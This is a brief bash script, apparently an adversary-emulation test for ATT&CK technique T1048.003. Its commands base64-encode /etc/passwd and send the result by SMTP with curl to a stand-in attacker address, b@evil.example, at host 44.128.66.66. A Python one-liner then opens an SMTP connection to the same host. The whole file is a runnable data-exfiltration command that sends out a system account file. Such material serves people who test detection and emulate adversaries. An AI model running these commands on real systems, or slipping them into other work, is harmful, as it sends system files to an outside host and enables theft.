#!/bin/bash
# T1048.003: A file goes out as a letter.
base64 /etc/passwd >/tmp/m; curl -s -m 2 --mail-from a@web01 --mail-rcpt b@evil.example -T /tmp/m smtp://44.128.66.66:25; python3 -c 'import smtplib;smtplib.SMTP("44.128.66.66",25,timeout=1)'
